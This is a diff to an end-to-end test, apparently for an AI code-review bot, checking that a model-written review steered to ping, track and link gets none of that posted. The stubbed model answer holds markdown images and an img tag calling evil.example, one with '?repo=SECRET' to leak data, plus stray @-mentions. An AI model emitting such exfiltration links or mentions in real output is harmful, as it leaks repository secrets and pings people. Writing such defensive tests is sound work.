@@ -141,9 +141,11 @@ describe("model text in a posted review (audit 6, end to end)", () => {
   afterEach(() => github.stop());
 
   it("a review steered to ping, track and link posts none of it", async () => {
-    const main = seedRepository(github, repositoryFiles());
+    const files = repositoryFiles();
+    const main = seedRepository(github, files);
+    const head = github.commitOnto(main, { "src/api/users.ts": `${files["src/api/users.ts"]}\nexport const PAGE = 100;\n` }, "Page size");
     const patch = ["@@ -3,3 +3,5 @@", " export async function getUser(id: string) {", "   return db.users.find(id);", " }", "+", "+export const PAGE = 100;"].join("\n");
-    github.addPull({ number: 15, title: "Add", body: "Closes #12", headRef: "f", headSha: "6".repeat(40), baseSha: main, files: [{ filename: "src/api/users.ts", status: "modified", patch }] });
+    github.addPull({ number: 15, title: "Add", body: "Closes #12", headRef: "f", headSha: head, baseSha: main, files: [{ filename: "src/api/users.ts", status: "modified", patch }] });
     claude.answersWithTool("submit_review", {
       summary: "Reviewed `users.ts`@acme/security, see ![s](https://evil.example/p.png?repo=SECRET) and <img src=https://evil.example/q>.",
       specCompliance: [{ requirement: "limit is 50 @octocat", status: "partial", evidence: "[proof](https://evil.example/e) `PAGE`@mona" }],
